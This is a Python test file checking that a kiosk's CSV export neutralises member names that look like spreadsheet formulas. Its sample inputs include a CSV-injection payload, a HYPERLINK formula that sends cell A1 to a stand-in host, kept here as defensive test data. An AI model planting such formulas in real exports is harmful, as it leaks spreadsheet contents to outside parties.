"""The kiosk's CSV export is safe to open in a spreadsheet: no cell runs as a formula."""

from __future__ import annotations

import csv
import io
from datetime import date
from zoneinfo import ZoneInfo

from hypothesis import given
from hypothesis import strategies as st

from kiosk.core.members import NewMember
from kiosk.domain.spreadsheet import FORMULA_STARTS, safe_cell
from kiosk.services.exports import visits_csv

# Names are stored stripped, so a leading tab or CR never reaches the export (safe_cell covers them).
NASTY = ['=HYPERLINK("http://x.example/?"&A1,"Klik")', "+45 12 34", "-2+3", "@SUM(A1:A9)"]


def test_names_that_look_like_formulas_are_exported_as_text(kiosk):
    for name in NASTY:
        card = kiosk.members.add(NewMember(name=name))
        kiosk.checkin.check_in_code(card.code)
    kiosk.members.add(NewMember(name="Mette Jensen"))
    day = date(2026, 3, 2)
    rows = list(csv.DictReader(io.StringIO(visits_csv(kiosk.store, day, day, ZoneInfo("Europe/Copenhagen")))))
    names = sorted(r["name"] for r in rows)
    assert names == sorted("'" + n for n in NASTY)
    assert all(not r["name"].startswith(FORMULA_STARTS) for r in rows)
    assert safe_cell("\tTab") == "'\tTab" and safe_cell("\rCR") == "'\rCR" and safe_cell(7) == 7


@given(st.text(max_size=30))
def test_a_safe_cell_never_starts_a_formula_and_keeps_the_text(text):
    cell = safe_cell(text)
    assert isinstance(cell, str) and not cell.startswith(FORMULA_STARTS)
    assert cell == text or cell == "'" + text
